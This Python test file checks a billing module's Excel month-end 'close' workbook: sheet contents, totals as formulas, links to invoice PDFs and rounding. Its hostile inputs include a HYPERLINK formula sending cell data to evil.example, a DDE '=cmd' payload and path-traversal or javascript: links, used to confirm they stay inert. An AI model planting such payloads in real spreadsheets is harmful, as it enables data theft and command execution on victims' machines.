"""The workbook of a close, read back: what it shows, that its texts stay texts, and that its formulas say what its values say."""

import io
import re
import zipfile
from dataclasses import replace
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from xlsxwriter.workbook import Workbook

from billing.change_reasons import Reasons
from billing.money import ZERO
from reports import close_records as r
from reports.close_workbook import ORDER, workbook
from reports.sheet_text import MOST_UNITS, cell_text, relative_link
from reports.sheets import FIRST_ROW, HEADING_ROW, TOTALS_ROW, Column, Sheet, Styles, table, write_table
from tests.documents.invented_close import HASH, brussels, close_of

D = Decimal
FORMULAS = re.compile(
    r"=(ROUND\((SUBTOTAL\(109,[A-Z]+\d+:[A-Z]+\d+\)|[A-Z]+\d+([+-][A-Z]+\d+)+|[A-Z]\d+|(Summary|Change)![A-Z]\d+|SUM\([^()\"]+\)|SUMIFS\([^()\"]+\)"
    r"|ABS\([A-Z]\d+\)),2\)|SUBTOTAL\(109,[A-Z]+\d+:[A-Z]+\d+\)|[A-Z]\d+-[A-Z]\d+|SUMIFS\([^()\"]+\)|ABS\([A-Z]\d+\)"
    r"|IF\(D\d+=0,\"OK\",\"LOOK\"\)|IF\(COUNTIF\([^()]+,\"OK\"\)=\d+,\"all OK\",\"LOOK: see Checks\"\))"
)
HOSTILE = {
    "=1+1": "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")': '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+32 2 555 12 34": "+32 2 555 12 34",
    "-2+3": "-2+3",
    "@SUM(A1:A9)": "@SUM(A1:A9)",
    "\t=1+1": "\t=1+1",
    "\r=1+1": "\n=1+1",
    "\r\n=cmd|' /C calc'!A0": "\n=cmd|' /C calc'!A0",
    "{=1+1}": "{=1+1}",
    "http://evil.example/": "http://evil.example/",
    "mailto:a@evil.example": "mailto:a@evil.example",
    "internal:Summary!A1": "internal:Summary!A1",
    "external:C:\\boot.ini": "external:C:\\boot.ini",
    "00123": "00123",
    "1e5": "1e5",
    "TRUE": "TRUE",
    "2026-10-28": "2026-10-28",
    "'quoted": "'quoted",
    "<r><t>bold</t></r>": "<r><t>bold</t></r> ",
    "<r> & </wrong></r>": "<r> & </wrong></r> ",
    "& < > \" '": "& < > \" '",
    "a\x00b\x07c\x1b": "a\ufffdb\ufffdc\ufffd",
    "lone \ud83d surrogate": "lone \ufffd surrogate",
    "Caf\N{LATIN SMALL LETTER E WITH ACUTE} \N{GRINNING FACE}": "Caf\N{LATIN SMALL LETTER E WITH ACUTE} \N{GRINNING FACE}",
    "\u0634\u0631\u0643\u0629 \u05d7\u05d1\u05e8\u05d4": "\u0634\u0631\u0643\u0629 \u05d7\u05d1\u05e8\u05d4",
    "  two blanks around  ": "  two blanks around  ",
    "x" * 40_000: "x" * 32_766 + "…",
    "\N{GRINNING FACE}" * 20_000: "\N{GRINNING FACE}" * 16_383 + "…",
}
NOTHING = r.CloseReport(
    state="waiting", month=date(2026, 10, 1), on=date(2026, 10, 28), before=None, issued_on=None,
    review=r.Review(brussels("2026-10-28 09:00"), brussels("2026-10-30 09:00"), 2, (), "", None),
    totals=r.NOTHING, totals_before=r.NOTHING, reasons=Reasons(), services=(), partners=(), destinations=(), changes=(), charges=(), gates=(),
    parked=(), not_in_force=(), failed=(), mailed=0, published=0, reconciliation=(),
    receivables=r.Receivables(date(2026, 10, 28), (), 0, ZERO), dunning=(), policies=(), snapshot_on=None, elements=0, content_hash="",
    order_invoices=0, order_net=ZERO, documents=(), files=(), invoices=(),
)  # fmt: skip


def read(content: bytes, *, values: bool = True) -> Any:
    """The workbook as openpyxl reads it: the values kept with the formulas, or the formulas."""
    return load_workbook(io.BytesIO(content), data_only=values)


def column(sheet: Any, heading: str) -> list[Any]:
    """The values below a heading, down to the last row of the sheet."""
    place = next(cell.column for cell in sheet[HEADING_ROW + 1] if cell.value == heading)
    return [sheet.cell(row, place).value for row in range(FIRST_ROW + 1, sheet.max_row + 1)]


def total(sheet: Any, heading: str) -> Any:
    place = next(cell.column for cell in sheet[HEADING_ROW + 1] if cell.value == heading)
    return sheet.cell(TOTALS_ROW + 1, place).value


def formulas_of(content: bytes) -> dict[tuple[str, str], str]:
    """Each formula by sheet and cell."""
    book = read(content, values=False)
    return {
        (sheet.title, cell.coordinate): cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
    }


def cents(value: float) -> Decimal:
    return D(repr(value)).quantize(D("0.01"))


REPORT = close_of(40)
CONTENT = workbook(REPORT)
BOOK = read(CONTENT)


def test_the_sheets_stand_in_the_order_of_the_page() -> None:
    assert BOOK.sheetnames == list(ORDER)
    assert BOOK.sheetnames[:6] == ["Summary", "Change", "Services", "Partners", "Traffic", "Payers"]
    assert BOOK.active.title == "Summary"


def test_the_same_close_gives_the_same_bytes_dated_on_the_close_date() -> None:
    assert workbook(close_of(40)) == CONTENT
    assert BOOK.properties.created == datetime.fromisoformat("2026-10-28 00:00")
    assert BOOK.properties.title == "Close 2026-10"
    assert workbook(close_of(41)) != CONTENT


def test_the_summary_compares_both_months() -> None:
    sheet = BOOK["Summary"]
    rows = {row[0]: row[1:4] for row in sheet.iter_rows(min_row=FIRST_ROW + 1, values_only=True) if row[0]}
    now, before = REPORT.totals, REPORT.totals_before
    assert [cents(value) for value in rows["Net"]] == [now.net, before.net, now.net - before.net]
    assert [cents(value) for value in rows["Gross"]] == [now.gross, before.gross, now.gross - before.gross]
    assert rows["Payers"] == (40, 40, 0)
    assert rows["Credit notes"] == (1, 0, 1)
    assert rows["Approved by"][0] == "Claire Dubois"
    assert rows["Compared with the close of"][0] == "September 2026"
    assert rows["Checks of this workbook"][0] == "all OK"
    assert (sheet["A1"].value, sheet["A2"].value) == ("Close October 2026", "Closed: issued.")


def test_the_bridge_leads_from_last_month_to_this_month() -> None:
    rows = list(BOOK["Change"].iter_rows(min_row=FIRST_ROW + 1, max_col=3, values_only=True))
    assert [row[0] for row in rows] == ["Net last month", "Price", "Quantity", "Traffic", "New", "Lost", "One-off", "Net this month"]
    assert [cents(row[1]) for row in rows] == [
        REPORT.totals_before.net, REPORT.reasons.price, REPORT.reasons.quantity, REPORT.reasons.traffic, REPORT.reasons.new,
        REPORT.reasons.lost, REPORT.reasons.one_off, REPORT.totals.net,
    ]  # fmt: skip
    assert cents(rows[-1][2]) == REPORT.totals.net


def test_every_payer_of_either_month_stands_there_with_the_reasons() -> None:
    sheet = BOOK["Payers"]
    assert column(sheet, "Payer") == [one.payer_id for one in REPORT.payers]
    assert column(sheet, "Why") == [one.explanation for one in REPORT.payers]
    for heading, amounts in {
        "This month": [one.net for one in REPORT.payers],
        "Last month": [one.net_before for one in REPORT.payers],
        "Difference": [one.change for one in REPORT.payers],
        "Price": [one.reasons.price for one in REPORT.payers],
        "Quantity": [one.reasons.quantity for one in REPORT.payers],
        "Traffic": [one.reasons.traffic for one in REPORT.payers],
        "New": [one.reasons.new for one in REPORT.payers],
        "Lost": [one.reasons.lost for one in REPORT.payers],
        "One-off": [one.reasons.one_off for one in REPORT.payers],
        "Unexplained": [ZERO] * len(REPORT.payers),
    }.items():
        assert [cents(value) for value in column(sheet, heading)] == amounts, heading
        assert cents(total(sheet, heading)) == sum(amounts, ZERO), heading


def test_without_all_payers_the_largest_changes_are_listed() -> None:
    few = read(workbook(replace(REPORT, payers=())))["Payers"]
    assert column(few, "Payer") == [one.payer_id for one in REPORT.changes]
    assert len(REPORT.changes) == 20


@pytest.mark.parametrize(
    ("name", "heading", "expected"),
    [
        ("Services", "Service", ["Business Telephony", "Other"]),
        ("Partners", "Name", ["Direct clients", "Partner ICT"]),
        ("Traffic", "Unit", ["minutes", "messages"]),
        ("Lines", "Charge", ["recurring", "usage", "one off", "refund"]),
        ("Exceptions", "What", ["parked payer", "contract not in force", "invoice not delivered", "warning of a gate"]),
        ("Gates", "Result", ["WARNING", "OK"]),
        ("Gates", "Examples", ["line L-WAIT, records 2", None]),
        ("Reconciliation", "Came in", [1213, 60, 834.56]),
        ("Reconciliation", "Difference", [0, 0, 0]),
        ("Accounted for", "Went to", [None, None, 1200, 11, 2, None, 60, None, None, 524.56, 310]),
        ("Ageing", "Open", [0, 1000.1, 2000.2, 3000.3, 4000.4]),
        ("Dunning", "Letters", [3, 1]),
        ("Policy", "Segment", ["everybody else", "consumer"]),
        ("Review", "Decision", ["reject", "exclude", "approve"]),
        (
            "Review",
            "At",
            [
                datetime.fromisoformat("2026-10-28 10:00"),
                datetime.fromisoformat("2026-10-28 11:00"),
                datetime.fromisoformat("2026-10-28 12:00"),
            ],
        ),
        ("Documents", "Files", [40, 40]),
        ("Files", "SHA-256", [HASH, HASH]),
        ("Checks", "Result", ["OK"] * 18),
    ],
)
def test_each_sheet_has_what_the_close_has(name: str, heading: str, expected: list[Any]) -> None:
    assert column(BOOK[name], heading) == expected


def test_the_words_of_the_workbook_are_explained_in_it() -> None:
    words = "\n".join(column(BOOK["How to read"], "Word"))
    for heading in (
        "Price",
        "Quantity",
        "Traffic",
        "New",
        "Lost",
        "One-off",
        "Difference",
        "Unexplained",
        "Parked payer",
        "Gate",
        "Checks",
    ):
        assert heading in words


def test_what_does_not_reconcile_is_an_exception_and_fails_the_checks() -> None:
    row = r.ReconciliationRow("euros", "charged", (r.Part("charges", D("10.00")),), (r.Part("invoices", D("9.99")),))
    book = read(workbook(replace(REPORT, reconciliation=(row,))))
    assert column(book["Exceptions"], "What")[0] == "not accounted for"
    assert column(book["Exceptions"], "Why")[0] == "0.01 of 10.00 went nowhere"
    assert column(book["Checks"], "Result")[-1] == "LOOK"
    assert {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}["Checks of this workbook"] == "LOOK: see Checks"


def test_sheets_that_disagree_fail_the_checks() -> None:
    wrong = replace(REPORT, invoices=REPORT.invoices[1:])
    results = dict(zip(column(read(workbook(wrong))["Checks"], "Check"), column(read(workbook(wrong))["Checks"], "Result"), strict=True))
    assert [what for what, result in results.items() if result == "LOOK"] == ["Net, by invoices", "VAT, by invoices", "Gross, by invoices"]


def test_lists_are_filtered_frozen_and_print_on_one_page_in_width_with_their_headings() -> None:
    for sheet in BOOK:
        assert sheet.freeze_panes is not None, sheet.title
        assert sheet.print_title_rows == f"${HEADING_ROW + 1}:${HEADING_ROW + 1}", sheet.title
        assert (sheet.page_setup.orientation, str(sheet.page_setup.paperSize)) == ("landscape", "9")
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) in {(None, 0), (1, 0)}
        assert "Page &amp;P of &amp;N" in xml_of(sheet.title)
    for name in ("Payers", "Invoices", "Services", "Gates", "Exceptions", "Files"):
        sheet = BOOK[name]
        assert sheet.auto_filter.ref.startswith(f"A{HEADING_ROW + 1}:"), name
        assert sheet.auto_filter.ref.endswith(str(sheet.max_row)), name


def xml_of(sheet: str) -> str:
    """The XML of a sheet."""
    with zipfile.ZipFile(io.BytesIO(CONTENT)) as archive:
        return archive.read(f"xl/worksheets/sheet{ORDER.index(sheet) + 1}.xml").decode()


def test_amounts_show_two_decimals_and_days_are_days() -> None:
    sheet = BOOK["Invoices"]
    place = {cell.value: cell.column for cell in sheet[HEADING_ROW + 1]}
    row = FIRST_ROW + 1
    assert sheet.cell(row, place["Net"]).number_format == "#,##0.00;[Red]-#,##0.00"
    assert sheet.cell(row, place["Due on"]).value == datetime.fromisoformat("2026-11-27 00:00")
    assert sheet.cell(row, place["Due on"]).number_format == "yyyy-mm-dd"


def test_totals_and_differences_are_formulas_of_the_rows() -> None:
    found = formulas_of(CONTENT)
    last = FIRST_ROW + len(REPORT.payers)
    assert found["Payers", f"C{TOTALS_ROW + 1}"] == f"=ROUND(SUBTOTAL(109,C{FIRST_ROW + 1}:C{last}),2)"
    assert found["Payers", f"E{FIRST_ROW + 1}"] == f"=ROUND(C{FIRST_ROW + 1}-D{FIRST_ROW + 1},2)"
    assert found["Services", f"E{FIRST_ROW + 1}"] == f"=ROUND(B{FIRST_ROW + 1}+C{FIRST_ROW + 1}+D{FIRST_ROW + 1},2)"
    assert found["Change", f"B{FIRST_ROW + 8}"] == f"=ROUND(SUM(B{FIRST_ROW + 1}:B{FIRST_ROW + 7}),2)"
    assert all(FORMULAS.fullmatch(formula) for formula in found.values())


def test_every_document_leads_to_its_pdf_beside_the_workbook() -> None:
    sheet = BOOK["Invoices"]
    first = sheet.cell(FIRST_ROW + 1, 1)
    assert first.value == "2026-000001"
    assert first.hyperlink.target.replace("\\", "/") == REPORT.invoices[0].link
    with zipfile.ZipFile(io.BytesIO(CONTENT)) as archive:
        targets = [target for name in archive.namelist() if name.endswith(".rels") and "worksheets" in name
                   for target in re.findall(r'Target="([^"]+)"[^>]*TargetMode="External"', archive.read(name).decode())]  # fmt: skip
    assert len(targets) == len(REPORT.payers) + len(REPORT.invoices) + len(REPORT.files)
    assert not [target for target in targets if ":" in target or target.startswith(("/", "\\", "."))]


def test_a_draft_has_no_number_and_may_have_no_document_yet() -> None:
    draft = replace(REPORT.invoices[0], number="", due_on=None, link="")
    sheet = read(workbook(replace(REPORT, state="waiting", invoices=(draft,))))["Invoices"]
    assert (sheet.cell(FIRST_ROW + 1, 1).value, sheet.cell(FIRST_ROW + 1, 1).hyperlink, sheet.cell(FIRST_ROW + 1, 8).value) == (
        "draft",
        None,
        None,
    )


def test_a_close_with_nothing_says_so_on_each_list() -> None:
    book = read(workbook(NOTHING))
    for name in ("Services", "Payers", "Invoices", "Exceptions", "Reconciliation", "Review", "Files"):
        assert book[name].cell(FIRST_ROW + 1, 1).value == "None.", name
    assert set(column(book["Checks"], "Result")) == {"OK"}
    rows = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
    assert rows["Compared with the close of"] == "none: this is the first"
    assert rows["Answer wanted by (Brussels time)"] == datetime.fromisoformat("2026-10-30 09:00")
    assert book["Summary"]["A2"].value == "Drafts, waiting for approval."


def hostile_close(text: str) -> r.CloseReport:
    """A close in which every text that others write is the same."""
    at = brussels("2026-10-28 12:00")
    return replace(
        REPORT,
        review=replace(REPORT.review, approved_by=text, decisions=(r.Decision("exclude", text, at, text, (text,), text),)),
        services=(replace(REPORT.services[0], service=text),),
        partners=(replace(REPORT.partners[0], partner_id=text, partner_name=text),),
        destinations=(replace(REPORT.destinations[0], group=text, name=text),),
        payers=(replace(REPORT.payers[0], payer_id=text, name=text, explanation=text, link=text),),
        charges=(replace(REPORT.charges[0], charge=text),),
        parked=(r.Parked(text, text, D("1.00"), text, text),),
        not_in_force=(r.NotInForce(text, text, text, text),),
        failed=(r.Failed(text, text, text, text),),
        reconciliation=(r.ReconciliationRow("records", text, (r.Part(text, D(1), text),), (r.Part(text, D(1), text),)),),
        policies=(r.Policy(text, text, text),),
        content_hash=text,
        documents=(r.DocumentFiles(text, 1, 1),),
        files=(r.FileEntry(text, 1, text),),
        invoices=(replace(REPORT.invoices[0], number=text, kind=text, payer_id=text, name=text, link=text),),
    )


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:24]))
def test_a_text_of_others_stays_the_text_it_is(text: str) -> None:
    content = workbook(hostile_close(text))
    book = read(content, values=False)
    for name, heading in (("Payers", "Payer"), ("Payers", "Name"), ("Payers", "Why"), ("Invoices", "Number"), ("Partners", "Name"),
                          ("Review", "Comment"), ("Files", "File"), ("Exceptions", "Of"), ("Policy", "Rests on"), ("Reconciliation", "What")):  # fmt: skip
        place = next(cell.column for cell in book[name][HEADING_ROW + 1] if cell.value == heading)
        cell = book[name].cell(FIRST_ROW + 1, place)
        assert (cell.value, cell.data_type) == (HOSTILE[text], "s"), (name, heading)
        assert cell.quotePrefix or text[0] not in "=+-@\t\r", (name, heading)
    assert all(FORMULAS.fullmatch(formula) for formula in formulas_of(content).values())
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        rels = "".join(archive.read(name).decode() for name in archive.namelist() if name.endswith(".rels") and "worksheets" in name)
    assert "evil" not in rels
    assert "C:" not in rels


@given(st.text(st.characters(codec="utf-16-le") | st.characters(categories=["Cs", "Cc"]), max_size=40))
@example("<r></r>")
def test_any_text_is_shown_as_it_is_but_for_what_a_cell_cannot_hold(text: str) -> None:
    shown = cell_text(text)
    assert shown == cell_text(shown)
    shown.encode("utf-8")
    kept = re.sub(
        "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ud800-\udfff\ufffe\uffff]", "\ufffd", text.replace("\r\n", "\n").replace("\r", "\n")
    )
    assert shown.rstrip(" ") == kept.rstrip(" ")


@given(st.integers(MOST_UNITS - 3, MOST_UNITS + 3), st.sampled_from(["", "\N{GRINNING FACE}"]))
def test_a_long_text_is_cut_to_what_a_cell_holds_and_never_within_a_character(length: int, last: str) -> None:
    shown = cell_text("a" * length + last)
    units = len(shown.encode("utf-16-le")) // 2
    assert units <= MOST_UNITS
    assert shown.endswith("…") == (length + 2 * len(last) > MOST_UNITS)


@pytest.mark.parametrize(
    ("path", "address"),
    [
        ("invoices/2026-000001.pdf", "invoices/2026-000001.pdf"),
        pytest.param("drafts/P 1#50%.pdf", "drafts/P%201%2350%25.pdf", id="what an address cannot hold is escaped"),
        pytest.param("", "", id="no path"),
        pytest.param("../secret.pdf", "", id="up"),
        pytest.param("a/../../b.pdf", "", id="down and up"),
        pytest.param("/etc/passwd", "", id="from the root"),
        pytest.param("//server/share", "", id="a server"),
        pytest.param("\\\\server\\share", "", id="a server, the other way"),
        pytest.param("C:/boot.ini", "", id="a drive"),
        pytest.param("http://evil.example/a", "", id="the web"),
        pytest.param("javascript:alert(1)", "", id="a script"),
    ],
)
def test_a_link_leads_to_a_file_beside_the_workbook_or_nowhere(path: str, address: str) -> None:
    assert relative_link(path) == address


def amounts_read(amounts: list[Decimal]) -> tuple[list[Decimal], Decimal]:
    """Amounts, and their total, written to a sheet and read back."""
    out = io.BytesIO()
    book = Workbook(out, {"in_memory": True})
    written = table("Sums", "Sums", "", (Column("What"), Column("Net", "euro", total=True)), [("x", amount) for amount in amounts])
    write_table(Sheet(book.add_worksheet("Sums"), Styles(book)), written)
    book.close()
    sheet = read(out.getvalue())["Sums"]
    return [cents(value) for value in column(sheet, "Net")], cents(total(sheet, "Net"))


@settings(max_examples=25)
@given(st.lists(st.integers(-9_999_999_999, 9_999_999_999), min_size=1, max_size=50))
@example([9_999_999_999, -9_999_999_999, 1, -1, 0, 29, 57, 1_005, 9_999_999_998])
def test_amounts_come_back_to_the_cent_up_to_99_999_999_99(whole_cents: list[int]) -> None:
    amounts = [D(one).scaleb(-2) for one in whole_cents]
    assert amounts_read(amounts) == (amounts, sum(amounts, ZERO))
